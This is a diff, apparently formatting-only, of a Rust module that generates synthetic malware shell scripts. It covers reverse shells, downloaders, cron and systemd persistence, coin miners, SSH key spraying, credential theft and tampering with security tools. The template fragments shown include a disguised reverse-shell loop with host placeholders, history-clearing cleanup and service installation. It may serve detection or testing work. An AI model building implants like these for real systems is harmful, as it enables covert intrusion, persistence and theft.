@@ -7,14 +7,47 @@ use super::names::{self, fill, pick, R};
 use super::{Draft, Family};
 
 pub(crate) const FAMILIES: &[Family] = &[
-    Family { name: "reverse-shell", description: "A reverse shell that hands an interactive shell to a remote operator", gen: reverse_shell },
-    Family { name: "download-execute", description: "A downloader that fetches a second-stage binary and executes it", gen: download_execute },
-    Family { name: "cron-persistence", description: "A persistence implant that installs cron jobs to relaunch a payload", gen: cron_persistence },
-    Family { name: "systemd-persistence", description: "A persistence implant that registers a disguised systemd service", gen: systemd_persistence },
-    Family { name: "coin-miner", description: "A cryptocurrency miner installer that hijacks the host's CPU", gen: coin_miner },
-    Family { name: "ssh-lateral-movement", description: "A lateral movement tool that sprays stolen SSH keys across known hosts", gen: ssh_spray },
-    Family { name: "credential-theft", description: "A credential stealer that collects secrets and uploads them", gen: cred_theft },
-    Family { name: "security-tool-tampering", description: "A defence evasion script that disables logging, firewalls and security agents", gen: tamper },
+    Family {
+        name: "reverse-shell",
+        description: "A reverse shell that hands an interactive shell to a remote operator",
+        gen: reverse_shell,
+    },
+    Family {
+        name: "download-execute",
+        description: "A downloader that fetches a second-stage binary and executes it",
+        gen: download_execute,
+    },
+    Family {
+        name: "cron-persistence",
+        description: "A persistence implant that installs cron jobs to relaunch a payload",
+        gen: cron_persistence,
+    },
+    Family {
+        name: "systemd-persistence",
+        description: "A persistence implant that registers a disguised systemd service",
+        gen: systemd_persistence,
+    },
+    Family {
+        name: "coin-miner",
+        description: "A cryptocurrency miner installer that hijacks the host's CPU",
+        gen: coin_miner,
+    },
+    Family {
+        name: "ssh-lateral-movement",
+        description: "A lateral movement tool that sprays stolen SSH keys across known hosts",
+        gen: ssh_spray,
+    },
+    Family {
+        name: "credential-theft",
+        description: "A credential stealer that collects secrets and uploads them",
+        gen: cred_theft,
+    },
+    Family {
+        name: "security-tool-tampering",
+        description:
+            "A defence evasion script that disables logging, firewalls and security agents",
+        gen: tamper,
+    },
 ];
 
 fn reverse_shell(r: &mut R) -> Draft {
@@ -39,7 +72,10 @@ fn reverse_shell(r: &mut R) -> Draft {
         };
     }
     let delay = r.random_range(30..600);
-    let title = pick(r, &["system maintenance helper", "network check", "update agent"]);
+    let title = pick(
+        r,
+        &["system maintenance helper", "network check", "update agent"],
+    );
     let mut c = header(r, title, false);
     c.push_str(&fill(
         r#"H="@HOST@"
@@ -60,7 +96,12 @@ while true; do
 done &
 disown
 "#,
-        &[("HOST", &host), ("PORT", &port.to_string()), ("CMD", &cmd), ("DELAY", &delay.to_string())],
+        &[
+            ("HOST", &host),
+            ("PORT", &port.to_string()),
+            ("CMD", &cmd),
+            ("DELAY", &delay.to_string()),
+        ],
     ));
     Draft {
         content: c,
@@ -110,7 +151,12 @@ sleep 2
 rm -f "$OUT"
 history -c 2>/dev/null
 "#,
-        &[("URL", &url), ("DEST", &dest), ("HOST", &host), ("PATH", &path)],
+        &[
+            ("URL", &url),
+            ("DEST", &dest),
+            ("HOST", &host),
+            ("PATH", &path),
+        ],
     ));
     Draft {
         content: c,
@@ -225,7 +271,12 @@ systemctl enable --now @NAME@.service >/dev/null 2>&1
 }
 
 fn coin_miner(r: &mut R) -> Draft {
-    let pool = format!("{}.{}:{}", pick(r, &["pool", "xmr", "mine", "stratum"]), names::c2_domain(r), pick(r, &[3333, 4444, 5555, 7777, 14444]));
+    let pool = format!(
+        "{}.{}:{}",
+        pick(r, &["pool", "xmr", "mine", "stratum"]),
+        names::c2_domain(r),
+        pick(r, &[3333, 4444, 5555, 7777, 14444])
+    );
     let wallet = names::wallet(r);
     let host = names::c2_host(r);
     let dir = names::linux_drop_dir(r);
